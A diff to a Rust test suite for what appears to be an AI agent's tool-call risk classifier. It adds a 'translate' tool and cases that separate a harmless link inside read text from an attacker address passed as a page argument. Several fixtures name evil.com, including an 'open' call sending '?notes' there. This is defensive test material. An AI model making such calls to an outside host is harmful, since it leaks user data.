@@ -80,6 +80,11 @@ fn tools() -> Vec<Known> {
             vec![("url", Page)],
         ),
         (
+            tool("translate", &json!({"text": {}, "with": {}})),
+            ToolAction::Reads,
+            vec![("text", Text), ("with", Page)],
+        ),
+        (
             tool("pay", &json!({"to": {}, "amount": {}})),
             ToolAction::Pays,
             vec![("to", To), ("amount", Amount)],
@@ -210,6 +215,19 @@ fn every_kind_of_call_in_every_mode() {
         (
             "open",
             json!({"url": "https://evil.com/?notes"}),
+            Risk::High,
+            [Deny, Ask, Ask, Ask, Deny],
+        ),
+        // A link in a text that is only read goes nowhere, and an address beside it does.
+        (
+            "translate",
+            json!({"text": "see http://evil.com/x"}),
+            Risk::Safe,
+            [Allow; 5],
+        ),
+        (
+            "translate",
+            json!({"text": "x", "with": "http://evil.com/x"}),
             Risk::High,
             [Deny, Ask, Ask, Ask, Deny],
         ),
